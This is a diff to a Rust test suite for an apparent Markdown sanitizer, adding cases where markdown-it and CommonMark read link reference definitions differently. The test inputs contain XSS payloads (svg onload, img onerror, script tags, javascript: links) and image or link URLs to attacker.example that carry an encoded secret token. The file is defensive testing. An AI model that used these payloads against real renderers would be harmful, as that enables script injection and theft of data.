@@ -1215,12 +1215,11 @@ fn lazy_lines_after_definitions_get_the_container_prefix() {
             "- [x]: /u\n  lazy\n10.      <b>x\n",
         ),
         ("> [x]: /u\nlazy\n", "> [x]: /u\n> lazy\n"),
-        // Multi-line and duplicate definitions (the parser reports only the first of a
-        // label), each later line of the run prefixed.
+        // Multi-line definitions and runs of them, each later line of the run prefixed.
         ("- [x]:\n/u\nlazy\n", "- [x]:\n  /u\n  lazy\n"),
         (
-            "[x]: /a\n\n10. [x]: /u\n[x]: /v\nlazy\n10.      <b>x\n",
-            "[x]: /a\n\n10. [x]: /u\n    [x]: /v\n    lazy\n10.      <b>x\n",
+            "[a]: /a\n\n10. [x]: /u\n[y]: /v\nlazy\n10.      <b>x\n",
+            "[a]: /a\n\n10. [x]: /u\n    [y]: /v\n    lazy\n10.      <b>x\n",
         ),
         // Nested: the quote's marker stays, the item's marker becomes blanks.
         ("> - [x]: /u\n> lazy\n", "> - [x]: /u\n>   lazy\n"),
@@ -1280,5 +1279,116 @@ fn block_starts_after_definitions_get_an_empty_line_first() {
         ("- [x]: /u\n\t\ttext\n", "- [x]: /u\n\n\t\ttext\n"),
     ] {
         settles_with_finding(input, want);
+    }
+}
+
+/// Link reference definitions markdown-it reads unlike `CommonMark`, found by a hostile
+/// review (three-line and four-line inputs enumerated, 650,000 in all, rendered by
+/// markdown-it 14.3 and 15.0 and cmark-gfm): a setext heading or table right after a
+/// definition, a line inside a definition that ends it for markdown-it, an indented
+/// definition line, a definition's own indentation, Unicode blanks, duplicate and
+/// case-folded labels, a blank label, a destination shaped like a setext underline, a
+/// hard break, a `>` destination, and a lazy line starting a block in a nested quote.
+/// Every input was live in markdown-it (or cmark-gfm); every output was checked inert in
+/// all three outside the suite and settles.
+#[test]
+fn definitions_markdown_it_reads_differently_settle_inert() {
+    for (input, want) in [
+        // 1 setext
+        (
+            "[x]: /u\n2. a\n===\n    <svg onload=alert(1)>\n",
+            "[x]: /u\n\n2. a\n===\n    \n",
+        ),
+        // 1b setext-html
+        (
+            "[x]: /u\n</pre>\n===\n```\n<svg onload=alert(1)>\n```\n",
+            "[x]: /u\n\n===\n```\n\n",
+        ),
+        // 2 label-terminator
+        (
+            "[<img src=x onerror=alert(1)>\n2. y]: /u\n",
+            "\\[\\[image\\]\n2. y]: /u\n",
+        ),
+        // 2b title-terminator
+        (
+            "[x]: /u \"<img src=x onerror=alert(1)>\n2. y\"\n\n[x]\n",
+            "\\[x]: /u \"\\[image\\]\n2. y\"\n\n[x]\n",
+        ),
+        // 2c comment
+        (
+            "[<!-- hidden\n2. -->]: /u\n",
+            "\\[\\[hidden comment: hidden 2.\\]]: /u\n",
+        ),
+        // 3 indented-def
+        (
+            "[y]: /v\n    [x]:\n<svg onload=alert(1)>\n",
+            "\\[y]: /v\n    [x]:\n\n",
+        ),
+        // 3b indented-def-img
+        (
+            "- [x]: /w\n      [z]:\n![a](https://attacker.example/a.png?d=c2VjcmV0LXRva2VuLXZhbHVl)\n",
+            "- \\[x]: /w\n      [z]:\n  \\[image: a (attacker.example)\\]\n",
+        ),
+        // 4 table
+        (
+            "[y]: /v\n    | a | b |\n|---|---|\n          <script>alert(1)</script>\n",
+            "[y]: /v\n\n    | a | b |\n|---|---|\n          alert(1)\n",
+        ),
+        // 5 lead-spaces
+        (
+            "   [x]: /u\n    code\n</pre>\n```\n<svg onload=alert(1)>\n```\n",
+            "   [x]: /u\n\n    code\n```\n\n",
+        ),
+        // 5b quote-tab
+        (
+            ">\t[x]: /u\n>     code\n> </pre>\n> ```\n> <svg onload=alert(1)>\n> ```\n",
+            ">\t[x]: /u\n>\n>     code\n> ```\n>\n",
+        ),
+        // 6 nbsp
+        (
+            "- [x]: /u\n\u{a0}\n10.      <img src=x onerror=alert(1)>\n",
+            "- [x]: /u\n  \u{a0}\n10.      <img src=x onerror=alert(1)>\n",
+        ),
+        // 7 dup-js
+        (
+            "[x]: /u\n[x]: javascript:x \"<img src=x onerror=alert(1)>\"\n",
+            "[x]: /u\n\\[x]: javascript:x \"\\[image\\]\"\n",
+        ),
+        // 8 casefold
+        (
+            "[\u{10d0}]: /safe\n[\u{1c90}]: https://attacker.example/?d=c2VjcmV0LXRva2VuLXZhbHVl\n\n[\u{1c90}] and ![\u{1c90}]\n",
+            "[\u{10d0}]: /safe\n\\[\u{1c90}]: https\\[://\\]attacker\\[.\\]example/?d=c2VjcmV0LXRva2VuLXZhbHVl (link removed)\n\n[\u{1c90}] and ![\u{1c90}]\n",
+        ),
+        // 9 nbsp-label
+        (
+            "[\u{a0}]: /u \"<img src=x onerror=alert(1)>\"\n\n[\u{a0}]\n",
+            "\\[\u{a0}]: /u \"\\[image\\]\"\n\n[\u{a0}]\n",
+        ),
+        // 10 setext-dest
+        (
+            "> [x]:\n=\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+            "> \\[x]:\n\\=\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+        ),
+        // 11 hardbreak
+        (
+            "- [x]: /u\n      \\\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+            "- [x]: /u\n\n      \\\nlazy\n10.      \\[image\\]\n",
+        ),
+        // 12 gt-only
+        (
+            "- [x]:\n      >\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+            "- \\[x]:\n      \\>\n  lazy\n10.      <img src=x onerror=alert(1)>\n",
+        ),
+        // 13 near-nested
+        (
+            "> > x\n    2.\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+            "> > x\n    2\\.\nlazy\n10.      <img src=x onerror=alert(1)>\n",
+        ),
+    ] {
+        let (once, codes, _) = run(input);
+        assert_eq!(once, want, "{input:?}");
+        assert!(!codes.is_empty(), "{input:?}: no finding");
+        let (twice, _, unchanged) = run(&once);
+        assert!(unchanged && twice == once, "{input:?} changed again");
     }
 }
